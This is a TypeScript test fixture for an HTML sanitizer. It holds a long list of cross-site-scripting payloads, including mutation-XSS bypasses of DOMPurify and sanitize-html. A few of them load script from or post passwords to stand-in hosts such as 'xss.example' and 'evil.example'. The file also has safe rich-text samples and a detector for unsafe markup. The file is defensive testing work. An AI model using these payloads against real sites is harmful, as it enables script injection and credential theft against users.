/**
 * Rich-text payloads that have run script through HTML sanitizers or the pages rendering their
 * output: OWASP's filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, and the mutation-XSS
 * bypasses of DOMPurify and sanitize-html (namespace confusion, `noscript`, comments, raw text).
 * Shared by the server's sanitizer test (rendered in Chromium) and the elements' browser test.
 * A payload that runs calls `alert`, `confirm`, `prompt` or `print` (the tests replace them), or
 * sets `window.xssRan`.
 */
export const xssPayloads: readonly string[] = [
  // Plain script, in every spelling parsers accept.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script/xss src="http://xss.example/x.js"></script>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script>/*<![CDATA[*/alert(1)/*]]>*/</script>',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  // Event handlers, on every kind of element.
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="x" onerror="window.xssRan=1">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover="alert(1)">di chuột vào đây</div>',
  '<p onpointerenter=alert(1)>x</p>',
  '<a href="https://example.org" onclick="alert(1)">liên kết</a>',
  '<x onclick=alert(1)>x</x>',
  '<div style="width:100%;height:100%" onanimationstart=alert(1)>x</div>',
  '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>',
  '<iframe onload=alert(1)></iframe>',
  '<object onerror=alert(1)></object>',
  '<body onpageshow=alert(1)>',
  '<img src=x onerror\u0000=alert(1)>',
  '<img src=x on\u000berror=alert(1)>',
  // URLs that run script.
  '<a href="javascript:alert(1)">liên kết</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="javascript:alert(1)" target="_blank">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<img src="javascript:alert(1)">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text x="20" y="20">x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)" /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  '<isindex action="javascript:alert(1)" type=image>',
  // Styles that run script in old engines, or restyle the page.
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="import" href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">',
  // Raw-text and comment tricks: what a parser reads as text, another reads as markup.
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<listing><img title="</listing><img src=x onerror=alert(1)>"></listing>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  // What sanitize-html fixed after 2.17.5, the version the server holds for Node 20: raw text
  // closed by a self-closing end tag, and SVG animations that set a URL attribute.
  '<textarea><img title="</textarea/><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp/><img src=x onerror=alert(1)>"></xmp>',
  '<svg><a><set attributeName="href" to="javascript:alert(1)" /><text x="20" y="20">x</text></a></svg>',
  '<svg><a xlink:href="#"><animate attributeName="xlink:href" values="javascript:alert(1)" begin="0s" /><text x="20" y="20">x</text></a></svg>',
  // Mutation XSS through foreign content (DOMPurify CVE-2019-16728, CVE-2020-26870, 2.2.2…).
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><img src=x onerror=alert(1)></mi></math>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<p><svg><style>*{font-family:\'</style><img src=x onerror=alert(1)>\'}</style></svg></p>',
  '<table><caption><svg><title><img src=x onerror=alert(1)></title></svg></caption></table>',
  '<a title="a</a><img src=x onerror=alert(1)>">x</a>',
  '<img alt="<script>alert(1)</script>" src="https://portal.example/a.png">',
  // Clobbering and framing.
  '<img name="getElementById"><form name="cookie"></form>',
  '<a id="sanitize" href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example/phishing"></iframe>',
  '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Đăng nhập</button></form>',
];

/** Editor HTML that must come through a sanitizer with its meaning intact. */
export const safeRichText: readonly { html: string; keeps: readonly string[] }[] = [
  { html: '<p>Sinh năm 1975. <strong>Tiến sĩ</strong> Giáo dục học.</p>', keeps: ['strong', 'p'] },
  { html: '<ul><li>Phụ trách chung</li><li>Giáo dục mầm non</li></ul>', keeps: ['ul', 'li'] },
  { html: '<p>Xem <a href="https://vbpl.vn/caobang/Pages/vbpq-toanvan.aspx?ItemID=1">Quyết định 10/2024/QĐ-UBND</a>.</p>', keeps: ['a[href^="https://vbpl.vn/"]'] },
  { html: '<table><thead><tr><th scope="col">Năm</th></tr></thead><tbody><tr><td>2025</td></tr></tbody></table>', keeps: ['table', 'th[scope="col"]', 'td'] },
  { html: '<p><img src="https://portal.example/anh.jpg" alt="Ảnh chân dung" width="300" height="400"></p>', keeps: ['img[alt="Ảnh chân dung"]'] },
  { html: '<p lang="en">Doctor of Education.</p><p>Liên hệ: <a href="mailto:vanphong@tinh.gov.vn">vanphong@tinh.gov.vn</a>, <a href="tel:02063852999">0206 3852 999</a></p>', keeps: ['p[lang="en"]', 'a[href^="mailto:"]', 'a[href^="tel:"]'] },
];

/**
 * What in a rendered subtree could run script, fetch a frame or a form, restyle the page or
 * clobber the document: an empty list for a safe rendering. Self-contained (no imports, no
 * closure), so that it can also be sent into a page to run there.
 */
export function unsafeMarkupIn(root: Element): string[] {
  const found: string[] = [];
  const forbiddenElements = new Set(['SCRIPT', 'IFRAME', 'FRAME', 'FRAMESET', 'OBJECT', 'EMBED', 'APPLET', 'BASE', 'META', 'LINK', 'STYLE', 'FORM', 'INPUT', 'BUTTON', 'TEXTAREA', 'SELECT', 'SVG', 'MATH', 'TEMPLATE']);
  const urlAttributes = new Set(['href', 'xlink:href', 'action', 'formaction', 'src', 'data', 'background', 'poster', 'ping', 'cite']);
  for (const element of [root, ...root.querySelectorAll('*')]) {
    if (element !== root && forbiddenElements.has(element.tagName.toUpperCase())) found.push(`<${element.tagName.toLowerCase()}>`);
    for (const { name, value } of element.attributes) {
      const lower = name.toLowerCase();
      // Browsers ignore control characters and spaces inside a URL's scheme.
      const scheme = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase();
      if (lower.startsWith('on')) found.push(`${lower}= on <${element.tagName.toLowerCase()}>`);
      if (lower === 'style' || lower === 'srcdoc') found.push(`${lower}= on <${element.tagName.toLowerCase()}>`);
      if (scheme.startsWith('javascript:') || scheme.startsWith('vbscript:')) found.push(`${lower}="${value}"`);
      if (urlAttributes.has(lower) && scheme.startsWith('data:text/html')) found.push(`${lower}="${value}"`);
      if (lower === 'srcset' && /(?:^|,)\s*(?:javascript|vbscript):/i.test(value)) found.push(`srcset="${value}"`);
      if ((lower === 'id' || lower === 'name') && value in document) found.push(`${lower}="${value}" clobbers document.${value}`);
    }
  }
  return found;
}
